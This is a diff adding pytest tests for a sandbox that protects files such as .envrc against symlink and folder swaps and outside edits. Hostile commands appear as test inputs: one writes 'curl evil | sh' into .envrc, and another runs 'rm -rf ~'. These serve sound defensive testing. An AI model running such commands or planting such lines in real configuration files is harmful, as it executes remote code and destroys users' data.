@@ -192,6 +192,48 @@ def test_a_protected_link_whose_chain_changed_is_taken_away(world, backend, layo
 
 
 @pytest.mark.parametrize("backend", BACKENDS)
+def test_a_protected_name_that_is_a_folder_cannot_be_swapped_for_a_file(world, backend):
+    (world.project / ".envrc").mkdir()
+    result = world.sandbox(backend).run("rm -rf .envrc && echo 'curl evil | sh' > .envrc", cwd=str(world.project))
+    assert result.exit_code != 0
+    assert (world.project / ".envrc").is_dir()
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_someone_editing_a_linked_file_outside_meanwhile_moves_nothing(world, backend):
+    import threading
+    import time
+
+    outside = world.outside / "shared.envrc"
+    outside.write_text("export A=1\n")
+    (world.project / ".envrc").symlink_to(outside)
+
+    def edit() -> None:
+        time.sleep(0.2)
+        outside.write_text("export A=2\n")  # the person, outside the sandbox
+
+    editor = threading.Thread(target=edit)
+    editor.start()
+    result = world.sandbox(backend).run("sleep 0.6", cwd=str(world.project))
+    editor.join()
+    assert result.exit_code == 0, result.stderr
+    assert os.readlink(world.project / ".envrc") == str(outside)
+    assert not [v for v in result.violations if v["kind"] == "created"]
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_the_sweep_never_takes_a_file_from_outside_through_a_swapped_folder(world, backend):
+    userdata = world.outside / "userdata"
+    userdata.mkdir()
+    (userdata / "envrc").write_text("mine\n")
+    (world.project / ".envrc").symlink_to("conf/envrc")  # dangling: conf does not exist
+    result = world.sandbox(backend).run(f"ln -s {userdata} conf", cwd=str(world.project))
+    assert result.exit_code == 0, result.stderr
+    assert (userdata / "envrc").read_text() == "mine\n"  # the person's file stays where it is
+    assert not os.path.lexists(world.project / ".envrc")  # the link that now leads there is taken away
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
 def test_rm_rf_home_removes_nothing(world, backend):
     before = snapshot(world.home)
     result = world.sandbox(backend).run("rm -rf ~ ; rm -rf $HOME/*", cwd=str(world.project))
